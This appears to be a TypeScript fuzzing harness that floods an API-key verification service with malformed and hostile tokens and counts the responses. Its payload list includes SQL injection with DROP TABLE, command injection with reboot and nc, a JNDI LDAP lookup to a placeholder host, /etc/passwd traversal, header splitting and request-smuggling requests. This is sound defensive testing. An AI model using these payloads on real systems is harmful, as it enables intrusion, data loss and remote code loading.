// Sends tokens that nobody means well with, by every way a token can come, and tells what they were answered.
import { randomBytes, randomInt } from "node:crypto";
import { Agent, request } from "node:http";
import { connect } from "node:net";
import type { Sql } from "#db/client.ts";
import { generateToken } from "#lib/crypto/token.ts";

export interface Target {
  /** Of the api, without a trailing slash. */
  url: string;
  /** A service token that may verify. */
  serviceToken: string;
  /** The secret of a key that is good; what is sent begins like it. */
  secret: string;
  brand?: string;
}

/** One hostile try. `raw` is written to a connection of its own as it is. */
type Attempt =
  | { header: [name: string, value: string] }
  | { body: string }
  | { path: string }
  | { raw: string };

export interface Wave {
  sent: number;
  /** How often each answer came: "401 MALFORMED", "413 payload_too_large". */
  answers: Record<string, number>;
  seconds: number;
}

const CONNECTIONS = 64;
const PATIENCE_MS = 30_000;

const INJECTIONS = [
  "' OR 1=1; DROP TABLE keys;--",
  "1); select pg_sleep(10);--",
  "\\'; copy secrets to program 'sh'--",
  "$(reboot)`id`|nc",
  "$" + "{jndi:ldap://203.0.113.9/a}",
  "{{7*7}}<%= 7*7 %>",
  "../../../../etc/passwd",
  "%00%0d%0aSet-Cookie:a=b",
  "<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "%s%s%s%n",
  "*)(uid=*",
  "-1e309",
];

/** Tokens of our form that were not made by us: a checksum that is wrong, or not there. */
export function wrongChecksum({ secret, brand = "kh" }: Target, index: number): Attempt {
  const noise = randomBytes(32).toString("hex");
  const forms = [
    () => `${brand}_live_${noise.slice(0, 49)}`,
    () => swapped(generateToken(brand, "live")),
    () => secret.slice(0, randomInt(brand.length + 6, secret.length - 1)),
    () => secret.slice(0, 40) + noise.slice(0, secret.length - 40),
    () => `${secret}${noise}`,
    () => `${brand}_test_' OR '1'='1`,
    () => `${brand}_svc_`,
    () => `${brand}_live_${"A".repeat(600)}`,
  ];
  const token = pick(forms, index)();
  return index % 2 === 0
    ? { header: ["authorization", `Bearer ${token.replaceAll(" ", "")}`] }
    : { body: asBody(token) };
}

/** Everything else: injections, NUL, megabytes, unicode, header splitting, other providers' keys, guesses. */
export function anyHostile(target: Target, index: number): Attempt {
  const { secret, brand = "kh" } = target;
  const noise = randomBytes(24).toString("base64url");
  const injection = pick(INJECTIONS, Math.floor(index / 12));
  const forms: (() => Attempt)[] = [
    () => wrongChecksum(target, Math.floor(index / 12)),
    () => ({ body: asBody(`${injection} ${noise}`) }),
    () => ({ header: ["x-api-key", `${injection} ${noise}`] }),
    () => ({ body: asBody(`\u0000${noise}\u0000${secret}`) }),
    () => ({ body: asBody(`${noise}\ud800\u202e🗝️ключ${noise}`) }),
    () => ({ header: ["x-api-key", Buffer.from(`clé-${noise}-ÿþ`).toString("latin1")] }),
    () => ({
      header: [
        "authorization",
        `Bearer ${generateToken(brand, pick(["live", "test", "svc"] as const, index))}`,
      ],
    }),
    () => ({ body: asBody(`sk-proj-${noise}`) }),
    () => ({ header: ["x-api-key", `AKIA${noise.toUpperCase()}`] }),
    () => ({ body: asBody(noise.repeat(randomInt(20, 600))) }),
    () => ({
      path: `/v1/authorize?${pick(["key", "api_key", "access_token"], index)}=${brand}_live_${noise}`,
    }),
    () => (index % 24 === 11 ? { raw: pick(rawForms(target, noise), index / 24) } : { body: asBody("") }),
  ];
  return pick(forms, index)();
}

/** What no client library would send. */
function rawForms({ secret, serviceToken }: Target, noise: string): string[] {
  const get = (headers: string) => `GET /v1/authorize HTTP/1.1\r\nHost: a\r\n${headers}\r\n\r\n`;
  const post = (headers: string, body = "") =>
    `POST /v1/keys/verify HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${serviceToken}\r\nContent-Type: application/json\r\n${headers}\r\n\r\n${body}`;
  return [
    get(`Authorization: Bearer ${noise}\r\nX-Api-Key: ${secret}x`),
    get(`Authorization: Bearer ${noise}\r\n Set-Cookie: folded=1`),
    get(`X-Api-Key: ${noise}\rX-Injected: 1`),
    get(`X-Api-Key: ${noise}\nX-Api-Key: other`),
    get(`X-Api-Key: ${noise}\0${secret}`),
    get(`X-Api-Key: ${"A".repeat(40_000)}`),
    get(`Authorization: Bearer ${noise}\r\nAuthorization: Bearer ${noise}2`),
    get(`X-Api-Key\t: ${noise}`),
    post(`Content-Length: 2000000`),
    post(`Content-Length: 5\r\nContent-Length: 6`, "{}{}{}"),
    post(`Transfer-Encoding: chunked\r\nContent-Length: 4`, "0\r\n\r\n"),
    `\0\0\0${noise}\r\n\r\n`,
  ];
}

/** Sends `count` of what `make` makes, over a few connections, and counts the answers. */
export async function sendHostile(
  target: Target,
  count: number,
  make: (target: Target, index: number) => Attempt,
): Promise<Wave> {
  const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
  const answers: Record<string, number> = {};
  const startedAt = performance.now();
  let next = 0;
  const work = async () => {
    while (next < count) {
      const index = next++;
      const answer = await attempt(target, make(target, index), agent);
      answers[answer] = (answers[answer] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, work));
  agent.destroy();
  return { sent: next, answers, seconds: (performance.now() - startedAt) / 1_000 };
}

async function attempt(target: Target, what: Attempt, agent: Agent): Promise<string> {
  if ("raw" in what) return sendRaw(target.url, what.raw);
  if ("path" in what) return ask(target.url + what.path, "GET", {}, undefined, agent);
  if ("header" in what)
    return ask(`${target.url}/v1/authorize`, "GET", { [what.header[0]]: what.header[1] }, undefined, agent);
  const headers = { authorization: `Bearer ${target.serviceToken}`, "content-type": "application/json" };
  return ask(`${target.url}/v1/keys/verify`, "POST", headers, what.body, agent);
}

function ask(
  url: string,
  method: string,
  headers: Record<string, string>,
  body: string | undefined,
  agent: Agent,
): Promise<string> {
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { "content-length": String(Buffer.byteLength(body)) };
    const sending = request(url, { method, agent, headers: { ...headers, ...length }, timeout: PATIENCE_MS });
    sending.on("response", (response) => {
      let text = "";
      response.setEncoding("utf8").on("data", (chunk) => {
        text += chunk;
      });
      response.on("end", () => resolve(wordsOf(response.statusCode ?? 0, text)));
    });
    sending.on("timeout", () => sending.destroy(new Error("no answer")));
    sending.on("error", (error) => resolve(`failed: ${error.message}`));
    sending.end(body);
  });
}

/** The status that a holder of the key would get: of the answer, or of the one that is ready to be forwarded. */
function wordsOf(status: number, text: string): string {
  try {
    const body = JSON.parse(text) as { status: number; code: string };
    return `${status === 200 ? body.status : status} ${body.code}`;
  } catch {
    return `${status} ${text.slice(0, 40)}`;
  }
}

/** The first answer on a connection of its own, which is then cut. */
function sendRaw(url: string, text: string): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    let received = "";
    const socket = connect(Number(port), hostname, () => socket.write(text, "latin1"));
    const done = (answer: string) => {
      socket.destroy();
      resolve(answer);
    };
    socket.setTimeout(PATIENCE_MS, () => done("failed: no answer"));
    socket.on("data", (chunk) => {
      received += chunk;
      const [, status, body] = /^HTTP\/1\.1 (\d{3})[\s\S]*?\r\n\r\n([\s\S]*\})/.exec(received) ?? [];
      if (status && body) done(wordsOf(Number(status), body));
    });
    socket.on("error", (error) => done(`failed: ${error.message}`));
    socket.on("end", () => done(`failed: ${received.slice(0, 40) || "closed"}`));
  });
}

/** From now on look-ups of keys are counted, at once and exactly, whichever process makes them. */
export async function countLookUps(owner: Sql): Promise<void> {
  const [found] = await owner<{ args: string; result: string }[]>`
    select pg_get_function_identity_arguments(oid) as args, pg_get_function_result(oid) as result
    from pg_proc where proname = 'find_key'`;
  if (!found) throw new Error("there is no find_key()");
  const given = found.args.split(", ").map((_, index) => `$${index + 1}`);
  await owner.unsafe(`
    create sequence look_ups;
    alter function find_key rename to find_key_itself;
    create function find_key(${found.args}) returns ${found.result}
    language plpgsql security definer set search_path = public, pg_temp as $$ begin
      perform nextval('look_ups');
      return query select * from find_key_itself(${given.join(", ")});
    end $$`);
}

/** How many there were since. */
export async function lookUps(owner: Sql): Promise<number> {
  const [row] = await owner<[{ count: number }]>`
    select case when is_called then last_value else 0 end::int as count from look_ups`;
  return row.count;
}

function asBody(key: string): string {
  return JSON.stringify({ key, resource: "GET /", ip: "203.0.113.66" });
}

function pick<T>(list: readonly T[], index: number): T {
  return list[Math.floor(index) % list.length] as T;
}

/** One character of the random part changed, as by a slip of the hand. */
function swapped(token: string): string {
  const at = token.length - 12;
  return token.slice(0, at) + (token[at] === "a" ? "b" : "a") + token.slice(at + 1);
}
